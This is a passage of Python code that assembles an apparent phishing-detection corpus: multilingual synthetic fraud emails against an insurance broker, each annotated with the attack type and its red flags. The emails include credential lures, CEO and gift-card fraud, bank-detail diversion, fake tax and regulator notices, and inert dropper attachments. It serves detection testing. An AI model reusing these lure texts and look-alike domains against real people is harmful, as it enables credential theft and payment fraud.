   related=[dict(filename="image001.png", ctype="image/png", data=QR_PNG, disp="inline", cid="qr-%s@examplegroup-it.com" % h("a11q", 10))],
   qr_url=_qr_url,
   desc="Quishing: fake internal IT MFA re-enrolment with an inline QR code (decodable) to an attacker AiTM page; via SendGrid, look-alike domain.",
   why="No clickable link (evades URL scanning), impersonates internal IT from external look-alike domain; QR URL is attacker-controlled.")

MX(A, "12-en-docusign-lure-compromised-underwriter", "en",
   M365("a12", "EUR02-VI1", "mail-vi1eur02on2", "40.107.241."),
   frm=("Rachel Dunmore", "r.dunmore@thamesgate-underwriting.co.uk"), to=[st("whitfield")], cc=[st("collins")],
   date="2026-11-10 14:38:20 +0000", charset="utf-8", cte="quoted-printable",
   subject="Thamesgate Underwriting – Terms of Business Agreement 2027 for signature",
   text="""Hi James,

Ahead of the 1/1 renewals we are re-papering all producing brokers onto our 2027 Terms of Business Agreement (changes mainly around premium settlement terms, delegated claims authority and the updated Consumer Duty annex).

Could you review and sign via the link below by Friday so we can keep your binding authority live from January?

Review and sign: https://tob-2027.thamesgate-docs.workers.dev/envelope?id=7c5e91a2

Any questions just shout.

Kind regards,

Rachel Dunmore
Broker Relationship Manager
Thamesgate Underwriting Ltd
20 Fenchurch Street, London EC3M 3BY
""",
   html="""<html><body style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Hi James,</p>
<p>Ahead of the 1/1 renewals we are re-papering all producing brokers onto our 2027 Terms of Business Agreement (changes mainly around premium settlement terms, delegated claims authority and the updated Consumer Duty annex).</p>
<p>Could you review and sign via the link below by Friday so we can keep your binding authority live from January?</p>
<table cellpadding="10" style="background:#f4f4f4;border:1px solid #ccc"><tr><td><b>Thamesgate Underwriting sent you a document to review and sign</b><br><br>
<a href="https://tob-2027.thamesgate-docs.workers.dev/envelope?id=7c5e91a2" style="background:#ffc820;color:#000;padding:8px 18px;text-decoration:none">REVIEW DOCUMENT</a></td></tr></table>
<p>Any questions just shout.</p>
<p>Kind regards,<br><br><b>Rachel Dunmore</b><br>Broker Relationship Manager<br>Thamesgate Underwriting Ltd<br>20 Fenchurch Street, London EC3M 3BY</p>
</body></html>""",
   desc="Credential phishing from a compromised genuine underwriter M365 mailbox: DocuSign-style TOBA lure linking to a workers.dev page.",
   why="Legit sender domain (account takeover) but link goes to attacker-hosted page, not DocuSign; typical supply-chain phishing.")

MX(A, "13-en-gift-card-ceo-impersonation", "en", OUTLOOKCOM("a13"),
   frm=("Katharina Brandt", "katharina.brandt.eg@outlook.com"), to=[st("collins")],
   date="2026-12-02 10:04:12 +0100", charset="us-ascii", cte="7bit",
   subject="Quick favour",
   text="""Hi Sarah,

Are you at your desk? I need a small favour handled discreetly today. We want to thank a few of our key fleet clients in the UK before Christmas and I'd like to send them Amazon gift cards as a surprise.

Could you pick up 8 x GBP 150 cards (Amazon UK) on your way to lunch or online? Please scratch the back, take clear photos of the codes and send them to me here. I'm in back-to-back meetings in Hamburg so email is best. You'll get it reimbursed through expenses, I will let Matthias know.

Thanks,
Katharina

Sent from Outlook for iOS
""",
   desc="Gift-card scam: CEO impersonated from an outlook.com free-mail address, secrecy and request for card codes.",
   why="Free-mail sender with CEO display name; off-process purchase request; classic gift-card BEC.")

_svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="480" viewBox="0 0 800 480">
<rect width="800" height="480" fill="#f2f2f2"/>
<text x="40" y="80" font-family="Arial" font-size="26" fill="#333">Ashworth Cole Loss Adjusting - Secure Viewer</text>
<text x="40" y="130" font-family="Arial" font-size="18" fill="#333">CLM/UK/26/4471 - 46 site inspection photos + preliminary report</text>
<a xlink:href="https://ashworthcole-la.co.uk.viewer-docs.com/p/?c=CLM-UK-26-4471&amp;m=sarah.collins@example.com">
<rect x="40" y="180" width="300" height="54" fill="#0f6cbd"/>
<text x="70" y="215" font-family="Arial" font-size="20" fill="#fff">Open photos (Microsoft 365)</text></a>
<!-- evaluation corpus: in the real pattern an obfuscated <script> redirect would sit here; removed, file is inert -->
</svg>"""
MX(A, "14-en-svg-attachment-loss-adjuster", "en",
   DRIVEN("a14", "mail.ashworthcole-la.co.uk", "host-213-171-195-48.static.fasthosts.net", "213.171.195.48", "ashworthcole-la.co.uk", MSO),
   frm=("David Holt", "d.holt@ashworthcole-la.co.uk"), to=[st("collins")],
   date="2026-11-20 15:55:02 +0000", charset="iso-8859-1", cte="quoted-printable",
   subject="RE: CLM/UK/26/4471 – site inspection photos and preliminary report",
   in_reply_to="<LO2P265MB4471A3C2D1E0F9A8B7C6D5E4F3A2B1C0@LO2P265MB4471.GBRP265.PROD.OUTLOOK.COM>",
   text="""Hi Sarah,

Further to our call, please find attached the photo schedule from yesterday's site inspection at the insured's Thurrock depot together with our preliminary report. The vehicle damage is consistent with the circumstances described by the driver; we are still waiting on the tachograph download.

Our initial reserve recommendation is £23,600. I'd be grateful if you could confirm cover position with underwriters before we instruct the repairer.

Kind regards,

David Holt ACII
Senior Loss Adjuster
Ashworth Cole Loss Adjusting Ltd
""",
   attachments=[dict(filename="CLM-UK-26-4471_Photos_Report.svg", ctype="image/svg+xml", data=_svg.encode("utf-8"))],
   desc="SVG attachment phishing from a compromised adjuster domain: SVG acts as a clickable 'secure viewer' to an M365 credential page (script removed, inert).",
   why="SVG used as HTML-like lure with link to attacker host embedding victim address; delivered in fake thread reply.")

MX(A, "15-en-fake-hmrc-ipt-penalty", "en",
   dict(helo="server.vps-2291.hostingcentre.co.uk", rdns="185-45-66-201.hostingcentre.co.uk", ip="185.45.66.201", tls=None,
        return_path="www-data@server.vps-2291.hostingcentre.co.uk", mailer="X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
   frm=("HM Revenue & Customs", "ipt.notices@hmrc-taxnotice.co.uk"), to=[st("whitfield")],
   date="2026-11-27 17:42:31 +0000", charset="iso-8859-1", cte="quoted-printable",
   subject="Insurance Premium Tax: late return penalty (IPT reference XIPT00001847562)",
   html="""<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:15px;color:#0b0c0c">
<div style="background:#0b0c0c;color:#fff;padding:12px 18px;font-weight:bold;font-size:20px">GOV.UK</div>
<div style="padding:18px;max-width:640px">
<h2 style="margin-top:0">Insurance Premium Tax - penalty notice</h2>
<p>IPT registration: XIPT00001847562<br>Accounting period: 01/07/2026 to 30/09/2026</p>
<p>We have not received your Insurance Premium Tax return for the above period by the due date of 31 October 2026. A late submission penalty of <b>£400.00</b> has been charged to your account. Interest will be added daily from 11 December 2026.</p>
<p>You can pay the penalty or submit an appeal online. If you believe the return was filed on time, you should request a review within 30 days.</p>
<p><a href="https://www.gov.uk.hmrc-taxnotice.co.uk/ipt/penalty?ref=XIPT00001847562" style="color:#1d70b8">Pay or appeal your IPT penalty</a></p>
<p>HM Revenue and Customs<br>Insurance Premium Tax Compliance Team</p>
<p style="font-size:12px;color:#505a5f">Please do not reply to this email. This mailbox is not monitored.</p></div></body></html>""",
   desc="Fake HMRC Insurance Premium Tax penalty notice (trade-specific tax) with GOV.UK styling; link to look-alike payment site; PHPMailer on cheap VPS.",
   why="Government impersonation; subdomain trick 'www.gov.uk.hmrc-taxnotice.co.uk'; HMRC does not send penalty payment links.")

MX(A, "16-en-sharepoint-share-compromised-partner", "en",
   dict(helo="EUR01-HE1-obe.outbound.protection.outlook.com", rdns="mail-he1eur01on2118.outbound.protection.outlook.com", ip="40.107.13.118",
        bstyle="outlook", return_path="no-reply@sharepointonline.com",
        msgid="<%s@AS2PR08MB9871.eurprd08.prod.outlook.com>" % h("a16", 24).upper()),
   frm=("Daniel Reeve (via SharePoint Online)", "no-reply@sharepointonline.com"), to=[st("becker")],
   reply_to=("Daniel Reeve", "daniel.reeve@reeve-partners.co.uk"),
   date="2026-12-03 13:27:45 +0000", charset="utf-8", cte="quoted-printable",
   subject='Daniel Reeve shared "Example Group – Q4 Bordereaux & Remittance" with you',
   text="""Daniel Reeve shared a file with you

Here's the Q4 bordereaux and remittance advice for the fleet binder. Please check the client-money reconciliation tab before we settle.

Example Group – Q4 Bordereaux & Remittance

Open: https://reevepartners-my.sharepoint.com/:o:/g/personal/daniel_reeve_reeve-partners_co_uk/EbR7mK2xQ1hNu0aZP8s3vT4BxJrV9wQeL2mY?e=5fRk2P

This link only works for the direct recipients of this message.

Microsoft respects your privacy. To learn more, please read our Privacy Statement.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
""",
   html="""<html><body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#323130">
<table width="520" align="center" cellpadding="16" style="border:1px solid #edebe9"><tr><td>
<p style="font-size:20px">Daniel Reeve shared a file with you</p>
<p style="background:#f3f2f1;padding:10px">Here's the Q4 bordereaux and remittance advice for the fleet binder. Please check the client-money reconciliation tab before we settle.</p>
<p><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240610.001/assets/item-types/48/one.png" width="32" height="32" alt=""> <b>Example Group – Q4 Bordereaux &amp; Remittance</b></p>
<p><a href="https://reevepartners-my.sharepoint.com/:o:/g/personal/daniel_reeve_reeve-partners_co_uk/EbR7mK2xQ1hNu0aZP8s3vT4BxJrV9wQeL2mY?e=5fRk2P" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>
<p style="font-size:12px;color:#605e5c">This link only works for the direct recipients of this message.</p>
<p style="font-size:11px;color:#a19f9d">Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table></body></html>""",
   desc="Genuine SharePoint sharing notification from a compromised partner tenant; the shared OneNote (.one) leads to an AiTM login page.",
   why="All infrastructure legit (Microsoft), attack is in the hosted content; unexpected 'bordereaux' share to client-money accountant.")

# -------------------------- Italiano -----------------------------------------
MX(A, "17-it-ferretti-lookalike-refund-iban", "it",
   DRIVEN("a17", "ferretti-trasporti.com", "ip-51-178-92-14.eu", "51.178.92.14", "ferretti-trasporti.com", MSO),
   frm=("Amministrazione Ferretti Trasporti", "amministrazione@ferretti-trasporti.com"),
   to=[st("galli")], cc=[st("rossi")],
   date="2026-11-05 11:18:40 +0100", charset="iso-8859-15", cte="quoted-printable",
   subject="R: Polizza flotta 2026 – rimborso conguaglio regolazione premio",
   in_reply_to="<AM0PR04MB6402F1E2D3C4B5A69788@AM0PR04MB6402.eurprd04.prod.outlook.com>",
   text="""Gentile dott.ssa Galli,

grazie per il prospetto di regolazione premio della polizza flotta (n. 88/FL/2026/0147) che conferma a nostro favore un conguaglio di 14.280,00 €.

Vi informiamo che a seguito della revisione dei rapporti bancari decisa dal CdA, il conto presso Banco BPM è in chiusura e non può più ricevere accrediti. Vi preghiamo pertanto di disporre il rimborso sulle seguenti coordinate:

Beneficiario: Ferretti Trasporti S.p.A.
IBAN: %s
Causale: Rimborso regolazione premio polizza 88/FL/2026/0147

Vi chiediamo cortesemente di procedere entro venerdì e di inviarci la contabile a questo indirizzo, dato che stiamo chiudendo la situazione di cassa di novembre.

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 42 – 37135 Verona
P.IVA %s

-----Messaggio originale-----
Da: Francesca Galli <francesca.galli@examplegroup.eu>
Inviato: lunedì 2 novembre 2026 16:05
A: amministrazione@ferretti-trasporti.it
Oggetto: Polizza flotta 2026 – rimborso conguaglio regolazione premio

Buongiorno,
in allegato il prospetto di regolazione premio. Vi confermiamo un conguaglio a vostro favore di 14.280,00 €.
""" % (fmt_iban(IBAN_FERRETTI_FAKE), IT_PIVA_FERRETTI),
   desc="BEC on a client relationship: look-alike ferretti-trasporti.com (genuine .it) hijacks a premium-refund thread and supplies a new IBAN.",
   why="Look-alike domain on OVH VPS, real thread quoted, account change 'decided by the board', urgency -> refund diversion.")

_zip18 = zip_bytes([("Avviso_2026_PR_0048113.pdf.js", INERT, (2026, 11, 10, 8, 11, 0))])
MX(A, "18-it-fake-agenzia-entrate-zip", "it",
   dict(helo="smtp.agenziaentrate-avvisi.it", rdns="unknown", ip="45.142.214.57", tls=None,
        return_path="avvisi@agenziaentrate-avvisi.it"),
   frm=("Agenzia delle Entrate", "avvisi@agenziaentrate-avvisi.it"), to=[st("galli")],
   date="2026-11-10 08:14:22 +0100", charset="iso-8859-1", cte="quoted-printable",
   subject="Comunicazione di irregolarità – Avviso n. 2026/PR/0048113",
   text="""Agenzia delle Entrate
Direzione Provinciale di Milano – Ufficio Controlli

Gentile contribuente,

a seguito del controllo automatizzato della dichiarazione IVA relativa al periodo d'imposta 2025 (art. 54-bis del D.P.R. n. 633/1972) sono emerse differenze tra l'imposta dichiarata e i versamenti effettuati.

In allegato trova la comunicazione di irregolarità n. 2026/PR/0048113 con il dettaglio delle somme dovute. Ha la possibilità di regolarizzare la posizione entro 30 giorni dal ricevimento beneficiando della riduzione delle sanzioni, oppure di segnalare eventuali elementi non considerati tramite il servizio CIVIS.

Distinti saluti

Agenzia delle Entrate
Questo messaggio è generato automaticamente, si prega di non rispondere.
""",
   attachments=[dict(filename="Avviso_2026_PR_0048113.zip", ctype="application/zip", data=_zip18)],
   desc="Fake Italian tax authority notice with ZIP containing a .pdf.js downloader (inert placeholder).",
   why="Authority impersonation from non-government domain, no TLS, bot IP without rDNS; script in archive.")

MX(A, "19-it-fake-ivass-rui-contributo", "it",
   dict(helo="mta-11.mailup-delivery.it.ivass-registro.it", rdns="m11.mxout-ivass-registro.it", ip="93.189.244.11",
        return_path="bounce-11882@ivass-registro.it"),
   frm=("IVASS - Registro Unico degli Intermediari", "rui@ivass-registro.it"), to=[st("rossi")],
   date="2026-11-17 09:45:10 +0100", charset="utf-8", cte="base64",
   subject="RUI Sezione B – aggiornamento obbligatorio dati e contributo di vigilanza 2026",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<div style="border-bottom:3px solid #0d3c7a;padding:10px 0"><b style="color:#0d3c7a;font-size:18px">IVASS</b> <span style="color:#666">Istituto per la Vigilanza sulle Assicurazioni</span></div>
<p>Spett.le intermediario iscritto nella <b>Sezione B</b> del Registro Unico degli Intermediari assicurativi e riassicurativi (RUI),</p>
<p>dai nostri archivi risulta non ancora perfezionato il versamento del contributo di vigilanza per l'anno 2026 e non aggiornata la comunicazione dei responsabili dell'attività di distribuzione ai sensi del Regolamento IVASS n. 40/2018.</p>
<p>La invitiamo ad accedere all'area riservata entro il <b>30 novembre 2026</b> per verificare i dati e procedere al pagamento tramite <b>pagoPA</b> (importo dovuto: 218,00 €). In mancanza, la posizione verrà segnalata per l'avvio del procedimento di cancellazione.</p>
<p><a href="https://servizi.ivass-registro.it/rui/accesso?sez=B&amp;pos=B000712944">Accedi all'area riservata RUI</a></p>
<p>Cordiali saluti<br>IVASS – Servizio Gestione Registro</p>
<p style="font-size:11px;color:#888">Messaggio inviato automaticamente. Non rispondere a questo indirizzo.</p></body></html>""",
   desc="Fake Italian insurance regulator (IVASS/RUI) requesting 'contributo di vigilanza' via fake pagoPA portal.",
   why="Regulator impersonation on look-alike domain (genuine ivass.it), payment and credential lure with threat of deregistration.")

MX(A, "20-it-pec-mailbox-quota-phish", "it",
   dict(helo="mail.residenzailpoggio.it", rdns="host64-29-static.62-81-b.business.telecomitalia.it", ip="81.62.29.64",
        return_path="info@residenzailpoggio.it", mailer="X-Mailer: Zimbra 8.8.15_GA_4484 (zclient/8.8.15_GA_4484)"),
   frm=("Aruba PEC", "info@residenzailpoggio.it"), to=[st("rossi")],
   date="2026-11-25 07:58:33 +0100", charset="iso-8859-1", cte="quoted-printable",
   subject="Casella PEC examplegroup-italia@pec.it: spazio quasi esaurito (98%)",
   text="""Gentile Cliente,

la casella PEC examplegroup-italia@pec.it ha raggiunto il 98% dello spazio disponibile. Al superamento della soglia i nuovi messaggi di posta certificata (comprese notifiche di atti, cartelle e comunicazioni dell'Agenzia delle Entrate) verranno respinti al mittente.

Per evitare la perdita di messaggi, acceda al pannello e attivi gratuitamente lo spazio aggiuntivo:
https://gestionemail.pec.it.sessione-webmail.com/login?u=examplegroup-italia

Cordiali saluti
Aruba PEC S.p.A.
""",
   html="""<html><body style="font-family:Verdana,Arial,sans-serif;font-size:13px">
<p><b style="color:#e36f1e;font-size:16px">Aruba PEC</b></p>
<p>Gentile Cliente,</p>
<p>la casella PEC <b>examplegroup-italia@pec.it</b> ha raggiunto il <b>98%</b> dello spazio disponibile. Al superamento della soglia i nuovi messaggi di posta certificata (comprese notifiche di atti, cartelle e comunicazioni dell'Agenzia delle Entrate) verranno respinti al mittente.</p>
<div style="width:300px;background:#eee"><div style="width:294px;background:#d9534f;color:#fff;font-size:11px;padding:2px">98%</div></div>
<p>Per evitare la perdita di messaggi, acceda al pannello e attivi gratuitamente lo spazio aggiuntivo:</p>
<p><a href="https://gestionemail.pec.it.sessione-webmail.com/login?u=examplegroup-italia">Gestisci spazio casella</a></p>
<p>Cordiali saluti<br>Aruba PEC S.p.A.</p></body></html>""",
   desc="Webmail/PEC quota phishing sent from a compromised Italian small-business mailbox (hotel), link to sub-domain trick.",
   why="Brand (Aruba PEC) in display name but sender unrelated compromised domain; credential harvesting link.")

MX(A, "21-it-fake-lawyer-ceo-fraud", "it",
   DRIVEN("a21", "mail.desantis-partners-legal.com", "vps-7d2e11a4.vps.ovh.net", "51.83.140.17", "desantis-partners-legal.com", MSO),
   frm=("Avv. Lorenzo De Santis", "l.desantis@desantis-partners-legal.com"), to=[st("galli")],
   date="2026-11-12 17:09:55 +0100", charset="utf-8", cte="quoted-printable",
   subject="Riservato – operazione Nordlicht / incarico Dr.ssa Brandt",
   text="""Gentile dott.ssa Galli,

mi permetto di contattarLa su indicazione della Dr.ssa Katharina Brandt, che assistiamo nell'operazione di acquisizione di un portafoglio di intermediazione in Italia (progetto "Nordlicht").

L'operazione è coperta da accordo di riservatezza e soggetta a comunicazione al mercato; Le chiedo pertanto di non parlarne con colleghi fino all'annuncio ufficiale, previsto per la prossima settimana. La Dr.ssa Brandt mi ha confermato che Lei è la persona di riferimento per i pagamenti della sede di Milano.

Per il closing è richiesto oggi il deposito in escrow della prima tranche di 96.500,00 € sul conto dedicato dello Studio:

Intestatario: De Santis & Partners – conto escrow
IBAN: %s
Causale: Deposito fiduciario NL-2026-11

La prego di confermarmi l'esecuzione del bonifico inviando la contabile a questo indirizzo. Resto a disposizione per ogni chiarimento; la Dr.ssa Brandt è in riunione ma La contatterà in serata.

Cordiali saluti

Avv. Lorenzo De Santis
De Santis & Partners – Studio Legale
Corso Venezia 18, 20121 Milano
""" % fmt_iban(IBAN_STUDIO_FAKE),
   desc="CEO fraud, second stage: fake lawyer from a freshly registered law-firm domain demands escrow transfer citing the CEO.",
   why="Secrecy, authority, same-day deadline, unknown counterparty, request to bypass colleagues.")

# -------------------------- Polski --------------------------------------------
MX(A, "22-pl-partner-logistik-lookalike-account-change", "pl",
   DRIVEN("a22", "mail.partner-logistlk.pl", "static-91-239-112-53.ip.kylos.pl", "91.239.112.53", "partner-logistlk.pl", TB),
   frm=("Księgowość Partner Logistik", "ksiegowosc@partner-logistlk.pl"), to=[st("kowalczyk")], cc=[st("nowak")],
   date="2026-11-06 13:02:17 +0100", charset="iso-8859-2", cte="quoted-printable",
   subject="Zmiana rachunku bankowego – wypłata odszkodowania szkoda PL/2026/0917",
   text="""Dzień dobry Panie Piotrze,

w nawiązaniu do rozmowy Pana Tadeusza Zielińskiego z Państwa biurem w sprawie szkody PL/2026/0917 (kradzież ładunku, naczepa PO 3T771) uprzejmie informujemy, że z dniem 1 listopada zmieniliśmy bank prowadzący rachunek firmowy.

Prosimy o przekazanie kwoty odszkodowania (182 450,00 zł) po jej otrzymaniu od ubezpieczyciela wyłącznie na nowy rachunek:

%s
Santander Bank Polska S.A.

Nowy rachunek jest zgłoszony do urzędu skarbowego i widnieje na białej liście podatników VAT (NIP %s). Oświadczenie podpisane przez Zarząd przesyłamy w załączniku.

Dotychczasowy rachunek w mBanku zostanie zamknięty w tym miesiącu – prosimy nie kierować już na niego płatności.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Głogowska 218, 60-104 Poznań
""" % (fmt_iban(IBAN_PL_FAKE)[2:], fmt_nip(PL_NIP_PARTNER)),
   attachments=[P("Oswiadczenie_zmiana_rachunku_Partner_Logistik.pdf", "Partner Logistik sp. z o.o. - Oswiadczenie",
                  ["Oswiadczamy, ze nowy rachunek firmowy to:", fmt_iban(IBAN_PL_FAKE), "Zarzad Spolki"])],
   desc="Look-alike domain partner-logistlk.pl (l for i) asks to divert a claims payout to a new account; cites the VAT white list.",
   why="Homoglyph domain; payout diversion of a large claim settlement; pre-empts the usual 'biała lista' check.")

MX(A, "23-pl-inpost-surcharge-phish", "pl",
   dict(helo="mail.inpost-paczkomaty.info", rdns="185-241-208-93.cloud.hostinger.com", ip="185.241.208.93",
        return_path="noreply@inpost-paczkomaty.info"),
   frm=("InPost", "powiadomienia@inpost-paczkomaty.info"), to=[st("nowak")],
   date="2026-12-02 18:31:05 +0100", charset="utf-8", cte="quoted-printable",
   subject="Twoja paczka czeka – wymagana dopłata 2,49 zł",
   text="""InPost

Twoja przesyłka nr 6880 2914 7725 3301 9915 2841 nie mogła zostać umieszczona w Paczkomacie POZ08M z powodu niepełnej opłaty za gabaryt C.

Do zapłaty: 2,49 zł
Termin: 48 godzin – po tym czasie paczka wróci do nadawcy.

Opłać i wybierz nowy termin doręczenia:
https://inpost-paczkomaty.info/doplata/688029147725
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;background:#f8f8f8">
<div style="max-width:520px;margin:auto;background:#fff;padding:20px;border-top:6px solid #ffcd00">
<p style="font-size:22px;font-weight:bold">InPost</p>
<p>Twoja przesyłka nr <b>6880 2914 7725 3301 9915 2841</b> nie mogła zostać umieszczona w Paczkomacie <b>POZ08M</b> z powodu niepełnej opłaty za gabaryt C.</p>
<p>Do zapłaty: <b>2,49 zł</b><br>Termin: 48 godzin – po tym czasie paczka wróci do nadawcy.</p>
<p><a href="https://inpost-paczkomaty.info/doplata/688029147725" style="background:#ffcd00;color:#000;padding:10px 24px;text-decoration:none;font-weight:bold">Opłać dopłatę</a></p>
</div></body></html>""",
   desc="Parcel-surcharge phishing (InPost) for card data, look-alike domain on shared hosting.",
   why="Brand impersonation from non-InPost domain; tiny payment to capture card and 3-D Secure codes.")

_ksef = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1250"></head>
<body style="font-family:Tahoma,Arial,sans-serif;font-size:13px;color:#222">
<table width="600" cellpadding="14" style="border:1px solid #ccd"><tr><td style="background:#003e7e;color:#fff"><b>KSeF</b> – Krajowy System e-Faktur<br><span style="font-size:11px">Ministerstwo Finansów</span></td></tr>
<tr><td>
<p>Szanowni Państwo,</p>
<p>w Krajowym Systemie e-Faktur zarejestrowano fakturę ustrukturyzowaną wystawioną na Państwa NIP przez kontrahenta, która wymaga weryfikacji odbiorcy przed terminem płatności:</p>
<table cellpadding="4" style="font-size:12px"><tr><td>Numer KSeF:</td><td><b>7781425636-20261119-0A9F3C1E2B47-6D</b></td></tr>
<tr><td>Sprzedawca:</td><td>Partner Logistik sp. z o.o.</td></tr>
<tr><td>Kwota brutto:</td><td>48 216,30 zł</td></tr><tr><td>Termin płatności:</td><td>26.11.2026</td></tr></table>
<p>Fakturę można pobrać po zalogowaniu do Aplikacji Podatnika KSeF przy użyciu Profilu Zaufanego, podpisu kwalifikowanego lub tokena.</p>
<p><a href="https://ksef-podatki.com.pl/web/login?ref=0A9F3C1E2B47">Zaloguj się do Aplikacji Podatnika KSeF</a></p>
<p style="font-size:11px;color:#777">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.</p>
</td></tr></table></body></html>"""
MX(A, "24-pl-fake-ksef-invoice-notice", "pl",
   dict(helo="smtp.ksef-podatki.com.pl", rdns="vps-5531.mikr.us", ip="193.38.54.201", tls="v12",
        return_path="noreply@ksef-podatki.com.pl"),
   frm=("KSeF - Krajowy System e-Faktur", "powiadomienia@ksef-podatki.com.pl"), to=[st("kowalczyk")],
   date="2026-11-19 10:44:03 +0100", charset="windows-1250", cte="base64",
   subject="Nowa faktura ustrukturyzowana w KSeF oczekuje na weryfikację",
   html=_ksef,
   desc="Fake KSeF (Polish national e-invoicing system, mandatory since 2026) notification: credential lure for Profil Zaufany/token.",
   why="Newest PL lure; look-alike domain; KSeF does not e-mail invoice links; uses real client name as bait.")

_zip25 = zip_bytes([("Kosztorys_naprawy_PL-2026-1188.pdf.vbs", INERT, (2026, 11, 26, 11, 40, 0)),
                    ("Zdjecia_PO7K412.lnk", INERT, (2026, 11, 26, 11, 40, 0))])
MX(A, "25-pl-repair-estimate-zip-dropper", "pl",
   DRIVEN("a25", "serwer1984321.home.pl", "serwer1984321.home.pl", "46.242.247.133", "autoserwis-kaczmarek.pl", MSO),
   frm=("Sebastian Kaczmarek", "s.kaczmarek@autoserwis-kaczmarek.pl"), to=[st("wiśniewska")],
   date="2026-11-26 11:43:27 +0100", charset="windows-1250", cte="quoted-printable",
   subject="Kosztorys naprawy – szkoda PL/2026/1188 – pojazd PO 7K412",
   text="""Dzień dobry Pani Marto,

w załączeniu przesyłam kosztorys naprawy oraz dokumentację zdjęciową pojazdu PO 7K412 (Scania R450, uszkodzenie kabiny i zderzaka). Kosztorys sporządzony w systemie Audatex, wartość naprawy 31 870,44 zł netto.

Prosimy o akceptację kosztorysu do końca tygodnia – klient potrzebuje pojazdu na trasy świąteczne.

Pozdrawiam
Sebastian Kaczmarek
Autoserwis Kaczmarek sp.j.
ul. Obornicka 270, 60-691 Poznań
NIP %s
""" % fmt_nip(PL_NIP_AUTOSERWIS),
   attachments=[dict(filename="Kosztorys_PL-2026-1188.zip", ctype="application/x-zip-compressed", data=_zip25)],
   desc="Repair estimate from a compromised body-shop domain with ZIP containing .pdf.vbs and .lnk droppers (inert).",
   why="Script/shortcut payload in archive disguised as a cost estimate; plausible claims context.")

MX(A, "26-pl-payroll-diversion-wp", "pl",
   dict(helo="smtpo110.poczta.onet.pl", rdns="smtpo110.poczta.onet.pl", ip="213.180.142.110", bstyle="part",
        mailer="X-Mailer: Poczta Onet"),
   frm=("Marta Wiśniewska", "marta.wisniewska88@onet.pl"), to=[st("kowalczyk")],
   date="2026-11-20 21:14:50 +0100", charset="iso-8859-2", cte="quoted-printable",
   subject="zmiana konta do wypłaty",
   text="""Cześć Piotrek,

mam prośbę – zmieniłam bank i chciałabym, żeby wypłata za listopad poszła już na nowe konto:

%s
(Revolut, właściciel: Marta Wiśniewska)

Piszę z prywatnej poczty, bo nie mam dostępu do służbowej z domu. Daj znać, czy to wystarczy, czy muszę coś podpisać – wtedy odpiszę tutaj.

Dzięki!
Marta
""" % fmt_iban(IBAN_LT_REVOLUT),
   desc="Payroll diversion in Polish from a free mailer, new account is a Lithuanian EMI IBAN.",
   why="Employee impersonation via onet.pl, off-channel reply, foreign neobank IBAN for salary.")

# -------------------------- Español -------------------------------------------
MX(A, "27-es-fake-aeat-notification", "es",
   dict(helo="notificaciones.aeat-sede.es", rdns="unassigned.psychz.net", ip="104.247.77.38", tls="v12",
        return_path="notificaciones@aeat-sede.es", mailer="X-Mailer: Microsoft Outlook Express 6.00.2900.5512"),
   frm=("Agencia Tributaria", "notificaciones@aeat-sede.es"), to=[st("fernández")],
   date="2026-11-13 09:37:12 +0100", charset="iso-8859-1", cte="quoted-printable", bstyle="legacy",
   subject="Notificación pendiente – Procedimiento de comprobación limitada IVA 3T 2026",
   text="""Agencia Tributaria – Sede electrónica

Le informamos de que tiene una notificación electrónica pendiente en la Dirección Electrónica Habilitada única (DEHú) relativa al procedimiento de comprobación limitada del Impuesto sobre el Valor Añadido, tercer trimestre 2026 (modelo 303).

Referencia: CL-2026-28-0091734
Plazo para comparecer: 10 días naturales

Puede descargar la notificación en el siguiente enlace:
https://sede-agenciatributaria.notificacion-dehu.com/descarga?ref=CL-2026-28-0091734

Transcurrido el plazo sin acceder, la notificación se entenderá practicada a todos los efectos (art. 43 Ley 39/2015).
""",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:13px">
<table width="620" cellpadding="12"><tr><td style="background:#a51c30;color:#fff"><b>Agencia Tributaria</b> &nbsp; Sede electrónica</td></tr>
<tr><td><p>Le informamos de que tiene una notificación electrónica pendiente en la Dirección Electrónica Habilitada única (DEHú) relativa al procedimiento de <b>comprobación limitada</b> del Impuesto sobre el Valor Añadido, tercer trimestre 2026 (modelo 303).</p>
<p>Referencia: <b>CL-2026-28-0091734</b><br>Plazo para comparecer: 10 días naturales</p>
<p><a href="https://sede-agenciatributaria.notificacion-dehu.com/descarga?ref=CL-2026-28-0091734">Descargar notificación</a></p>
<p style="font-size:11px;color:#555">Transcurrido el plazo sin acceder, la notificación se entenderá practicada a todos los efectos (art. 43 Ley 39/2015).</p></td></tr></table></body></html>""",
   desc="Fake AEAT/DEHú tax notification linking to a malware download page; legacy mailer on bulletproof hosting.",
   why="Tax-authority impersonation from look-alike domain; download link for 'notification' (malware delivery).")

MX(A, "28-es-fake-dgsfp-registry", "es",
   dict(helo="mail.dgsfp-mediadores.es", rdns="srv-44-120.ionos-cloud.es", ip="217.160.44.120",
        return_path="registro@dgsfp-mediadores.es"),
   frm=("DGSFP - Registro de Distribuidores", "registro@dgsfp-mediadores.es"), to=[st("martín")],
   date="2026-11-11 12:02:47 +0100", charset="utf-8", cte="base64",
   subject="Actualización obligatoria de datos – corredor de seguros J-3817",
   html="""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<p style="color:#7a0c14;font-weight:bold">Ministerio de Economía, Comercio y Empresa<br>Dirección General de Seguros y Fondos de Pensiones</p>
